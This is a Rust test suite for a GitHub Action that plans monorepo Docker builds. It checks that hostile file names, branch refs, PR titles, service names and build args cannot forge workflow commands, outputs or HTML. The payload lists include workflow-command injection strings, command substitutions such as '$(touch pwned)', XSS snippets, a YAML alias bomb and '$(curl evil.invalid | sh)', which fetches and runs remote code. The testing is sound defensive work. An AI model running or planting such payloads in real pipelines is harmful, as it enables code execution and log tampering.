//! Hostile input through action mode: file names, branch names, pull request titles, service
//! names, build args and Dockerfile sources chosen to break out of whatever they are printed in.
//! Each run's channels are then read back the way the runner reads them ([`runner`], shared
//! with the fuzz crate): stdout and stderr line by line for workflow commands, `$GITHUB_OUTPUT`
//! with the runner's heredoc reader, and the step summary and pull-request comment for raw HTML.
//!
//! A command is *forged* when the hostile run shows one its benign twin (the same repository
//! with plain names) does not: text became a command. Every test asserts none was.

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;

use serde_json::{json, Value};

use crate::support::{run_action, ActionRun, Repo, Run, ShopConfig};

#[allow(dead_code)]
#[path = "../../fuzz/src/runner.rs"]
mod runner;

/// File names that try every way out of a log line, an output value or a Markdown cell.
const FILE_NAMES: [&[u8]; 24] = [
    b"x\n::set-output name=changed::[\"pwned\"]",
    b"::error::forged by a file name",
    b"  ::warning file=a,line=1::indented",
    b"\t::notice::tab",
    b"%0A::error::percent-encoded newline",
    b"100%25 %0D%0A.txt",
    b"$(touch pwned)",
    b"`id`",
    b"'single' \"double\"",
    b"<script>alert(1)<img src=x onerror=alert(1)>.html",
    b"a\r::error::carriage return",
    b"\xff\xfe::error::not utf-8",
    b"##[error]legacy command",
    b"x=y<<EOF",
    b"ghadelimiter_00000000000000000000000000000000",
    "\u{2028}::error::line separator".as_bytes(),
    "\u{85}::error::next line".as_bytes(),
    "\u{a0}::error::no-break space".as_bytes(),
    b"::stop-commands::tok",
    b"::add-mask::api",
    b"::set-output name=any-changed::false",
    b"::group::fake group",
    b"| a | b |\n| --- | --- |",
    b"\\n literal backslash-n",
];

/// Text for refs, titles and bodies in event payloads.
const TEXTS: [&str; 8] = [
    "x\n::error::forged by a ref",
    "::set-output name=changed::[\"pwned\"]",
    "%0A::warning::percent",
    "$(curl evil.invalid | sh) `id`",
    "<script>alert(1)</script> <img src=x onerror=alert(1)>",
    "'\"quotes\"'",
    "##[error]legacy",
    "a\r\n::add-mask::b",
];

/// Runs the action with the comment off and nothing listening at the API URL, so a call that
/// should not happen fails at once.
fn action(
    workspace: &Path,
    event: &str,
    payload: &Value,
    sha: &str,
    extra: &[(&str, &str)],
) -> ActionRun {
    let env = [
        &[
            ("GITHUB_API_URL", "http://127.0.0.1:9"),
            ("INPUT_COMMENT", "false"),
        ],
        extra,
    ]
    .concat();
    run_action(workspace, event, payload, sha, &env)
}

/// Tags monoship writes into Markdown itself.
const OWN_TAGS: [&str; 16] = [
    "<code>",
    "</code>",
    "<br>",
    "<br/>",
    "<b>",
    "</b>",
    "<details>",
    "<details open>",
    "</details>",
    "<summary>",
    "</summary>",
    "<sub>",
    "</sub>",
    "<pre>",
    "</pre>",
    "<!-- ",
];

/// Every `<` in `md` that opens an HTML tag, comment or declaration monoship did not write.
fn raw_markup(md: &str) -> Vec<String> {
    md.match_indices('<')
        .map(|(i, _)| &md[i..])
        .filter(|rest| {
            let opens = rest[1..]
                .chars()
                .next()
                .is_some_and(|c| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?'));
            opens && !OWN_TAGS.iter().any(|t| rest.starts_with(t))
        })
        .map(|rest| rest.chars().take(40).collect())
        .collect()
}

/// Tallies what the runner would have read from the hostile runs.
#[derive(Default)]
struct Audit {
    cases: usize,
    forged: Vec<String>,
}

impl Audit {
    /// Compares the commands the runner reads from a hostile run with its benign twin's:
    /// the same command names in the same order on each stream, or something was forged.
    fn commands(&mut self, label: &str, hostile: &Run, benign: &Run) {
        for (stream, h, b) in [
            ("stdout", &hostile.stdout, &benign.stdout),
            ("stderr", &hostile.stderr, &benign.stderr),
        ] {
            let names = |text: &str| -> Vec<String> {
                runner::commands(text)
                    .into_iter()
                    .map(|(_, c)| c.name)
                    .collect()
            };
            let (got, want) = (names(h), names(b));
            if got != want {
                let lines = runner::log_lines(h);
                for (i, c) in runner::commands(h) {
                    self.forged.push(format!(
                        "{label}: {stream} line {}: `{}` in {:?} (benign run: {want:?})",
                        i + 1,
                        c.name,
                        lines[i]
                    ));
                }
            }
        }
    }

    /// The outputs file must read, the runner's way, as exactly `want` (keys in order).
    fn outputs(&mut self, label: &str, text: &str, want: &[(&str, String)]) {
        match runner::parse_file_command(text) {
            Err(e) => self
                .forged
                .push(format!("{label}: the runner rejects $GITHUB_OUTPUT: {e}")),
            Ok(got) => {
                let got_keys: Vec<&str> = got.iter().map(|(k, _)| k.as_str()).collect();
                let want_keys: Vec<&str> = want.iter().map(|(k, _)| *k).collect();
                if got_keys != want_keys {
                    self.forged.push(format!(
                        "{label}: output keys {got_keys:?}, expected {want_keys:?}"
                    ));
                    return;
                }
                for ((k, v), (_, w)) in got.iter().zip(want) {
                    let same = if k == "matrix" {
                        matrix_services(v) == matrix_services(w)
                    } else {
                        v == w
                    };
                    if !same {
                        self.forged
                            .push(format!("{label}: output {k} = {v:?}, expected {w:?}"));
                    }
                }
            }
        }
    }

    fn markdown(&mut self, label: &str, md: &str) {
        for tag in raw_markup(md) {
            self.forged
                .push(format!("{label}: raw markup in Markdown: {tag:?}"));
        }
    }

    fn finish(self, what: &str) {
        eprintln!(
            "hostile {what}: {} cases, {} forged",
            self.cases,
            self.forged.len()
        );
        assert!(
            self.forged.is_empty(),
            "forged through {what}:\n{}",
            self.forged.join("\n")
        );
    }
}

/// The services of a `matrix` output, in order.
fn matrix_services(matrix: &str) -> Vec<String> {
    let v: Value = serde_json::from_str(matrix).unwrap_or_default();
    v["include"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|e| e["service"].as_str().unwrap_or_default().to_string())
        .collect()
}

fn plan_outputs(changed: &[&str], base: &str, head: &str) -> Vec<(&'static str, String)> {
    let include: Vec<Value> = changed.iter().map(|s| json!({ "service": s })).collect();
    let mut want = vec![
        ("changed", serde_json::to_string(changed).unwrap()),
        ("matrix", json!({ "include": include }).to_string()),
        ("any-changed", (!changed.is_empty()).to_string()),
        ("base", base.to_string()),
        ("head", head.to_string()),
    ];
    for s in ["api", "web", "worker"] {
        want.push((s, changed.contains(&s).to_string()));
    }
    want
}

fn base_repo() -> (Repo, String) {
    let mut repo = Repo::new();
    repo.write(".github/monoship.yml", &ShopConfig::default().yaml())
        .write("services/api/Dockerfile", "FROM scratch\nCOPY . /src\n")
        .write("services/web/Dockerfile", "FROM scratch\nCOPY . /site\n")
        .write("services/worker/job.sh", "echo\n");
    let base = repo.commit("base");
    (repo, base)
}

fn write_bytes(repo: &Repo, dir: &str, name: &[u8], contents: &str) {
    let folder = repo.path().join(dir);
    std::fs::create_dir_all(&folder).unwrap();
    let path = folder.join(OsStr::from_bytes(name));
    std::fs::write(&path, contents).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
}

fn pull_request(base: &str, head: &str, text: &str) -> Value {
    json!({
        "action": "synchronize",
        "number": 2,
        "pull_request": {
            "number": 2, "title": text, "body": text, "changed_files": 4,
            "base": {"sha": base, "ref": "main", "label": format!("octo:{text}")},
            "head": {"sha": head, "ref": text, "label": format!("fork:{text}")},
            "user": {"login": text}
        },
        "repository": {"full_name": "octo/shop", "default_branch": "main"},
        "sender": {"login": text}
    })
}

/// A pull request adding a file named `name` at the root (twice) and in two services, on a
/// branch; the plan, read back, must hold exactly the planned values and no command.
fn file_name_case(
    audit: &mut Audit,
    repo: &mut Repo,
    base: &str,
    name: &[u8],
    benign: Option<&Run>,
) -> Run {
    repo.git(&["checkout", "-q", "-B", "pr", base]);
    let mut second = name.to_vec();
    second.extend_from_slice(b".2");
    write_bytes(repo, "", name, "1\n");
    write_bytes(repo, "", &second, "2\n");
    write_bytes(repo, "services/web", name, "3\n");
    write_bytes(repo, "services/worker", name, "4\n");
    let head = repo.commit("hostile names");
    let label = format!("file {:?}", String::from_utf8_lossy(name));
    let r = action(
        repo.path(),
        "pull_request",
        &pull_request(base, &head, "t"),
        &head,
        &[],
    );
    assert_eq!(r.run.code, 0, "{label}: {}", r.run.stderr);
    audit.outputs(
        &label,
        &r.output_file,
        &plan_outputs(&["api", "web", "worker"], base, &head),
    );
    audit.markdown(&label, &r.summary);
    if let Some(benign) = benign {
        audit.commands(&label, &r.run, benign);
        // Every hostile path is planned: the names reached the plan, just not as commands.
        let shown = r.run.stdout.matches("<-").count();
        assert!(shown >= 5, "{label}: {}", r.run.stdout);
    }
    r.run
}

#[test]
fn file_names_forge_no_command_output_or_markup() {
    let (mut repo, base) = base_repo();
    let mut audit = Audit::default();
    let benign = file_name_case(&mut audit, &mut repo, &base, b"benign", None);
    for name in FILE_NAMES {
        audit.cases += 1;
        file_name_case(&mut audit, &mut repo, &base, name, Some(&benign));
    }
    audit.finish("file names");
}

#[test]
fn refs_titles_and_branch_names_forge_nothing() {
    let (mut repo, base) = base_repo();
    // A real branch with every character git allows in a name that means something elsewhere.
    repo.git(&[
        "checkout",
        "-q",
        "-b",
        "feature/$(id)`id`'\"<script>%0A%25##error",
    ]);
    repo.write("services/worker/job.sh", "echo 2\n");
    let head = repo.commit("work");
    let mut audit = Audit::default();
    let benign_pr = action(
        repo.path(),
        "pull_request",
        &pull_request(&base, &head, "plain"),
        &head,
        &[],
    );
    let deleted = |r: &str| {
        json!({"ref": r, "before": base, "after": "0".repeat(40), "deleted": true,
        "repository": {"default_branch": "main"}})
    };
    let benign_deleted = action(
        repo.path(),
        "push",
        &deleted("refs/heads/plain"),
        &head,
        &[],
    );
    let first_push = |r: &str| {
        json!({"ref": r, "before": "0".repeat(40), "after": head, "created": true,
        "repository": {"default_branch": r.strip_prefix("refs/heads/").unwrap_or(r)}})
    };
    let benign_first = action(
        repo.path(),
        "push",
        &first_push("refs/heads/plain"),
        &head,
        &[],
    );
    for text in TEXTS {
        let label = format!("pull request text {text:?}");
        audit.cases += 1;
        let r = action(
            repo.path(),
            "pull_request",
            &pull_request(&base, &head, text),
            &head,
            &[],
        );
        assert_eq!(r.run.code, 0, "{label}: {}", r.run.stderr);
        audit.commands(&label, &r.run, &benign_pr.run);
        // The api builds from the repository root, so the worker's script is its input too.
        audit.outputs(
            &label,
            &r.output_file,
            &plan_outputs(&["api", "worker"], &base, &head),
        );
        audit.markdown(&label, &r.summary);

        // A deleted ref is named in a warning: one annotation, its text given back exactly.
        let label = format!("deleted ref {text:?}");
        audit.cases += 1;
        let git_ref = format!("refs/heads/{text}");
        let r = action(repo.path(), "push", &deleted(&git_ref), &head, &[]);
        assert_eq!(r.run.code, 0, "{label}: {}", r.run.stderr);
        audit.commands(&label, &r.run, &benign_deleted.run);
        let warned = runner::commands(&r.run.stderr)
            .into_iter()
            .any(|(_, c)| c.name == "warning" && c.data.contains(&git_ref));
        assert!(
            warned,
            "{label}: the ref is not in a warning: {}",
            r.run.stderr
        );
        audit.outputs(&label, &r.output_file, &plan_outputs(&[], "", &head));
        audit.markdown(&label, &r.summary);

        // The first push of a branch ships everything, with the ref in every reason.
        let label = format!("first push of {text:?}");
        audit.cases += 1;
        let r = action(repo.path(), "push", &first_push(&git_ref), &head, &[]);
        assert_eq!(r.run.code, 0, "{label}: {}", r.run.stderr);
        audit.commands(&label, &r.run, &benign_first.run);
        audit.outputs(
            &label,
            &r.output_file,
            &plan_outputs(&["api", "web", "worker"], "", &head),
        );
        audit.markdown(&label, &r.summary);
    }
    audit.finish("refs, titles and branch names");
}

#[test]
fn hostile_service_names_are_refused_with_escaped_annotations() {
    let (mut repo, base) = base_repo();
    let mut audit = Audit::default();
    let names = [
        "x\\n::error::forged",
        "a=b",
        "a<<EOF",
        "::set-output name=z::1",
        "<script>alert(1)</script>",
        "$(id)",
        "na%0Ame",
        "x\\r::warning::cr",
        "##[error]legacy",
        "\\u2028::error::ls",
    ];
    let dispatch = json!({"ref": "refs/heads/main", "inputs": {}});
    for name in names {
        let label = format!("service name {name:?}");
        audit.cases += 1;
        repo.write(
            ".github/monoship.yml",
            &format!(
                "services:\n  \"{name}\":\n    paths: [\"x/**\"]\n    depends_on: [\"{name}\"]\n"
            ),
        );
        repo.commit("hostile name");
        let r = action(repo.path(), "workflow_dispatch", &dispatch, &base, &[]);
        assert_eq!(r.run.code, 2, "{label}: {}\n{}", r.run.stdout, r.run.stderr);
        assert!(
            r.output_file.is_empty(),
            "{label}: outputs {:?}",
            r.output_file
        );
        // Only config annotations, each anchored to the config file, may come out.
        for (i, c) in runner::commands(&r.run.stderr) {
            let intended = c.name == "error"
                && c.property("title") == Some("monoship config")
                && c.property("file")
                    .is_some_and(|f| f.ends_with(".github/monoship.yml"));
            if !intended {
                audit
                    .forged
                    .push(format!("{label}: stderr line {}: {c:?}", i + 1));
            }
        }
        assert!(
            runner::commands(&r.run.stderr)
                .iter()
                .any(|(_, c)| c.data.contains("not a usable name")),
            "{label}: {}",
            r.run.stderr
        );
        for (i, c) in runner::commands(&r.run.stdout) {
            audit
                .forged
                .push(format!("{label}: stdout line {}: {c:?}", i + 1));
        }
    }
    audit.finish("service names");
}

#[test]
fn build_args_and_dockerfile_sources_forge_nothing() {
    let mut audit = Audit::default();
    let plain = "\
services:
  api:
    dockerfile: services/api/Dockerfile
    context: .
    build_args:
      A: \"src\"
  web:
    dockerfile: services/web/Dockerfile
  worker:
    paths: [\"services/worker/**\"]
";
    let dockerfile = |source: &str| {
        format!(
            "FROM scratch\nARG A\nCOPY ${{A}}/ /a\nCOPY {source} /b\nCOPY [\"{}\", \"/c\"]\nRUN --mount=type=bind,source={source},target=/m true\n",
            source.replace('\\', "\\\\").replace('"', "\\\"")
        )
    };
    // Each source names a file that exists and changes, so the hostile rule is a reason.
    let run = |arg: (&str, &str), source: &str| {
        let (yaml, raw) = arg;
        let mut repo = Repo::new();
        repo.write(".github/monoship.yml", &plain.replace("\"src\"", yaml))
            .write("services/api/Dockerfile", &dockerfile(source))
            .write("services/web/Dockerfile", "FROM scratch\nCOPY . /site\n")
            .write("services/worker/job.sh", "echo\n");
        let base = repo.commit("base");
        write_bytes(&repo, "", source.as_bytes(), "changed\n");
        write_bytes(&repo, raw, b"f", "changed\n");
        let head = repo.commit("change");
        let r = action(
            repo.path(),
            "push",
            &json!({"ref": "refs/heads/main", "before": base, "after": head,
            "repository": {"default_branch": "main"}}),
            &head,
            &[],
        );
        (r, base, head)
    };
    let (benign, _, _) = run(("\"src\"", "src"), "plain");
    assert_eq!(benign.run.code, 0, "{}", benign.run.stderr);
    let args = [
        (
            "\"x\\n::error::forged by a build arg\"",
            "x\n::error::forged by a build arg",
        ),
        ("\"%0A::warning::b\"", "%0A::warning::b"),
        ("\"$(id)`id`\"", "$(id)`id`"),
        ("\"##[error]legacy\"", "##[error]legacy"),
        ("\"<script>alert(1)</script>\"", "<script>alert(1)</script>"),
    ];
    let sources = [
        "::error::forged-by-a-source",
        "##[error]legacy-source",
        "$(id)",
        "<script>",
        "%0A::warning::x",
    ];
    for (arg, source) in args.into_iter().zip(sources) {
        let label = format!("build arg {:?} and source {source:?}", arg.1);
        audit.cases += 1;
        let (r, base, head) = run(arg, source);
        assert_eq!(r.run.code, 0, "{label}: {}", r.run.stderr);
        audit.commands(&label, &r.run, &benign.run);
        audit.outputs(
            &label,
            &r.output_file,
            &plan_outputs(&["api"], &base, &head),
        );
        audit.markdown(&label, &r.summary);
        assert!(
            r.run.stdout.contains("Dockerfile COPY"),
            "{label}: the sources are reasons: {}",
            r.run.stdout
        );
    }
    audit.finish("build args and Dockerfile sources");
}

mod comment {
    use super::*;
    use wiremock::matchers::method;
    use wiremock::{Mock, MockServer, ResponseTemplate};

    /// The sticky comment is Markdown too: hostile file names must not become HTML in it.
    #[tokio::test]
    async fn the_pull_request_comment_escapes_file_names() {
        let server = MockServer::start().await;
        // The workflow's token may not read `/user`.
        Mock::given(method("GET"))
            .and(wiremock::matchers::path("/user"))
            .respond_with(
                ResponseTemplate::new(403)
                    .set_body_json(json!({"message": "Resource not accessible by integration"})),
            )
            .mount(&server)
            .await;
        Mock::given(method("GET"))
            .respond_with(ResponseTemplate::new(200).set_body_json(json!([])))
            .mount(&server)
            .await;
        Mock::given(method("POST"))
            .respond_with(ResponseTemplate::new(201).set_body_json(json!({"id": 7})))
            .mount(&server)
            .await;
        let uri = server.uri();
        let (cases, run) = tokio::task::spawn_blocking(move || {
            let (mut repo, base) = base_repo();
            repo.git(&["checkout", "-q", "-b", "pr"]);
            for name in FILE_NAMES {
                write_bytes(&repo, "services/web", name, "x\n");
            }
            let head = repo.commit("hostile names");
            let r = action(
                repo.path(),
                "pull_request",
                &pull_request(&base, &head, TEXTS[4]),
                &head,
                &[
                    ("INPUT_COMMENT", "true"),
                    ("INPUT_TOKEN", "t"),
                    ("GITHUB_API_URL", &uri),
                ],
            );
            (FILE_NAMES.len(), r)
        })
        .await
        .unwrap();
        assert_eq!(run.run.code, 0, "{}", run.run.stderr);
        let posted: Vec<String> = server
            .received_requests()
            .await
            .unwrap_or_default()
            .into_iter()
            .filter(|r| r.method.as_str() == "POST")
            .filter_map(|r| serde_json::from_slice::<Value>(&r.body).ok())
            .filter_map(|v| v["body"].as_str().map(str::to_string))
            .collect();
        assert_eq!(posted.len(), 1, "one comment: {}", run.run.stderr);
        let mut audit = Audit {
            cases,
            ..Audit::default()
        };
        audit.markdown("comment", &posted[0]);
        audit.markdown("summary", &run.summary);
        for (i, c) in runner::commands(&run.run.stdout) {
            audit.forged.push(format!("stdout line {}: {c:?}", i + 1));
        }
        audit.finish("the pull-request comment");
    }
}

/// Runs a `docker` command bounded in time; its stdout.
fn docker(dir: &Path, args: &[&str]) -> String {
    let mut command = std::process::Command::new("timeout");
    command
        .arg("180")
        .arg("/usr/bin/docker")
        .args(args)
        .current_dir(dir)
        .env("DOCKER_BUILDKIT", "1");
    crate::support::checked_stdout(&mut command)
}

/// `COPY caf? /d/` copies `café` (a `?` is one character, not one byte): found against the
/// real Docker daemon, so a change to `café` must rebuild.
#[test]
fn a_question_mark_in_a_copy_source_matches_a_non_ascii_file_as_docker_does() {
    let mut repo = Repo::new();
    repo.write("svc/Dockerfile", "FROM scratch\nCOPY caf? /d/\n")
        .write("svc/café", "1\n")
        .write("svc/cafés", "1\n")
        .write(
            ".github/monoship.yml",
            "services:\n  svc:\n    dockerfile: svc/Dockerfile\n",
        );
    let base = repo.commit("base");
    // What the daemon copies: `café` is in, `cafés` is not.
    let tag = format!("monoship-test-cafe:{}", &base[..12]);
    docker(&repo.path().join("svc"), &["build", "-q", "-t", &tag, "."]);
    let container = docker(repo.path(), &["create", &tag, "/none"]);
    let mut export = std::process::Command::new("timeout");
    export.args([
        "60",
        "sh",
        "-c",
        &format!("/usr/bin/docker export {container} | tar -t"),
    ]);
    let listing = crate::support::checked_stdout(&mut export);
    docker(repo.path(), &["rm", &container]);
    docker(repo.path(), &["rmi", "-f", &tag]);
    let copied: Vec<&str> = listing.lines().filter(|l| l.starts_with("d/")).collect();
    assert_eq!(copied, ["d/", "d/café"], "{listing}");

    repo.write("svc/café", "2\n");
    let head = repo.commit("change café");
    let run = crate::support::plan_json(repo.path(), &["--base", &base, "--head", &head]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.changed(), ["svc"]);
    repo.write("svc/cafés", "2\n");
    let later = repo.commit("change cafés");
    let run = crate::support::plan_json(repo.path(), &["--base", &head, "--head", &later]);
    assert_eq!(run.changed(), Vec::<String>::new(), "{}", run.stdout);
}

/// 8,000 sibling services, each with its own Dockerfile: planning one changed file finds that
/// one service (the folder listing is read once, not once per service; bench/plan.sh times it).
#[test]
fn eight_thousand_sibling_services_plan_one_change() {
    const N: usize = 8_000;
    let mut repo = Repo::new();
    let mut config = String::from("services:\n");
    for i in 0..N {
        repo.write(
            &format!("s{i:04}/Dockerfile"),
            "FROM scratch\nCOPY main.go /app/\n",
        );
        config.push_str(&format!("  s{i:04}:\n    dockerfile: s{i:04}/Dockerfile\n"));
    }
    repo.write(".github/monoship.yml", &config)
        .write("s4321/main.go", "1\n");
    let base = repo.commit("base");
    repo.write("s4321/main.go", "2\n");
    let head = repo.commit("change one");
    let run = crate::support::plan_json(repo.path(), &["--base", &base, "--head", &head]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.changed(), ["s4321"]);
    assert_eq!(run.json()["services"].as_array().unwrap().len(), N);
}

/// A config that fails to load is reported by file, line and column, with exit 2 and nothing
/// of its text: not a secret pasted as the whole file, nor as a value.
#[test]
fn bad_configs_are_refused_by_place_without_their_text() {
    let secret = "planted_Zq9SECRETx0123456789abcdefABCDEF0123";
    let mut repo = Repo::new();
    repo.write("a/Dockerfile", "FROM scratch\nCOPY . /a\n");
    let head = repo.commit("base");
    let long = "y".repeat(1 << 20);
    let bomb = format!(
        "x: &s \"{long}\"\nservices:\n  a:\n    paths: [{}]\n",
        vec!["*s"; 1000].join(", ")
    );
    for (config, says) in [
        (format!("{secret}\n"), "m.yml:1:1: invalid type: a string, expected struct Config"),
        (
            format!("services:\n  a:\n    dockerfile: a/Dockerfile\n    paths: \"{secret}\"\n"),
            "m.yml:4:12: services.a.paths: invalid type: a string, expected a sequence",
        ),
        (
            format!("services:\n  a:\n    paths: [x]\n  a:\n    paths: [\"{secret}\"]\n"),
            "m.yml:4:3: the key `a` is written twice in one mapping, at line 2 column 3 and at line 4 column 3",
        ),
        (
            format!("services:\n  a:\n    dockerfile: a/Dockerfile\n    build_args:\n      TOKEN:\n      X: \"{secret}\"\n"),
            "services.a.build_args: a build arg has no value",
        ),
        (bomb, "aliases (`*name`) expand the config past"),
        (
            "services:\n  a:\n    dockerfile: a/Dockerfile\n    context: nowhere\n".into(),
            "m.yml:4: services.a.context: the build context `nowhere` is not a folder at",
        ),
        (
            "services:\n  cart:\n    dockerfile: a/Dockerfile\n  Cart:\n    dockerfile: a/Dockerfile\n  failed: {}\n".into(),
            "services.failed: `failed` is the name of the action's own output `failed`",
        ),
    ] {
        repo.write("m.yml", &config);
        let run = crate::support::plan_json(
            repo.path(),
            &["--config", "m.yml", "--base", &head, "--head", &head],
        );
        assert_eq!(run.code, 2, "{config:.200}\n{}", run.stderr);
        assert!(run.stdout.is_empty(), "{}", run.stdout);
        assert!(run.stderr.contains(says), "{says}\n{}", run.stderr);
        assert!(!run.stderr.contains("SECRET"), "{}", run.stderr);
        assert!(!run.stderr.contains("yyyy"), "{:.300}", run.stderr);
    }
}

/// The content tag `build --dry-run` computes for the one service `svc` of `repo`, as it
/// stands (work tree and index).
fn dry_run_content_tag(repo: &Repo) -> String {
    let run = crate::support::monoship(
        repo.path(),
        &[
            "build",
            "--dry-run",
            "--format",
            "json",
            "--services",
            "svc",
            "--registry",
            "127.0.0.1:1/acme",
        ],
        &Default::default(),
    );
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    let commands = report["dry_run"]["images"][0]["commands"].to_string();
    let at = commands
        .find("/manifests/src-")
        .unwrap_or_else(|| panic!("{report}"))
        + 11;
    commands[at..at + 69].to_string()
}

/// A link inside the context that points elsewhere in the repository is sent by Docker as the
/// link itself (mode 120000 and its target text): its target is part of the image, the file it
/// points to is not. So the content tag follows the target text and ignores the file, whether
/// the link is read from the index (committed) or from the work tree (changed, uncommitted).
#[test]
fn a_link_inside_the_repository_counts_by_its_target_not_by_the_file_it_names() {
    let mut repo = Repo::new();
    repo.write("svc/Dockerfile", "FROM scratch\nCOPY . /app/\n")
        .write("common/a.txt", "a1\n")
        .write("common/b.txt", "b1\n")
        .write(
            ".github/monoship.yml",
            "services:\n  svc:\n    dockerfile: svc/Dockerfile\n",
        );
    std::os::unix::fs::symlink("../common/a.txt", repo.path().join("svc/link")).unwrap();
    let base = repo.commit("a link out of the context, inside the repository");
    assert_eq!(repo.git(&["ls-files", "-s", "svc/link"])[..6], *"120000");

    // What Docker sends: the link, not the file it names.
    let image = format!("monoship-test-link:{}", &base[..12]);
    docker(
        &repo.path().join("svc"),
        &["build", "-q", "-t", &image, "."],
    );
    let container = docker(repo.path(), &["create", &image, "/none"]);
    let mut export = std::process::Command::new("timeout");
    export.args([
        "60",
        "sh",
        "-c",
        &format!("/usr/bin/docker export {} | tar -tv", container.trim()),
    ]);
    let listing = crate::support::checked_stdout(&mut export);
    docker(repo.path(), &["rm", container.trim()]);
    docker(repo.path(), &["rmi", "-f", &image]);
    assert!(
        listing
            .lines()
            .any(|l| l.starts_with('l') && l.ends_with("app/link -> ../common/a.txt")),
        "{listing}"
    );

    let committed = dry_run_content_tag(&repo);
    // The file it names changes: in the work tree, then committed. Same tag.
    repo.write("common/a.txt", "a2\n");
    assert_eq!(dry_run_content_tag(&repo), committed, "work tree");
    repo.commit("the named file changes");
    assert_eq!(dry_run_content_tag(&repo), committed, "index");

    // The link is pointed elsewhere: in the work tree, then committed. Another tag.
    let link = repo.path().join("svc/link");
    std::fs::remove_file(&link).unwrap();
    std::os::unix::fs::symlink("../common/b.txt", &link).unwrap();
    let repointed = dry_run_content_tag(&repo);
    assert_ne!(repointed, committed, "work tree");
    // The link now read from disk: the file it names changes, the tag does not.
    repo.write("common/b.txt", "b2\n");
    assert_eq!(dry_run_content_tag(&repo), repointed, "link on disk");
    repo.commit("the link names another file");
    let repointed_committed = dry_run_content_tag(&repo);
    assert_ne!(repointed_committed, committed, "index");
    // And back: the first tag again, from the work tree and from the index.
    std::fs::remove_file(&link).unwrap();
    std::os::unix::fs::symlink("../common/a.txt", &link).unwrap();
    let back = dry_run_content_tag(&repo);
    assert_ne!(back, repointed_committed, "work tree");
    repo.commit("the link names the first file again");
    assert_eq!(dry_run_content_tag(&repo), committed, "index");
    // A file whose bytes are the old target text is not the link.
    std::fs::remove_file(&link).unwrap();
    std::fs::write(&link, "../common/a.txt").unwrap();
    assert_ne!(dry_run_content_tag(&repo), committed, "a file, not a link");
}
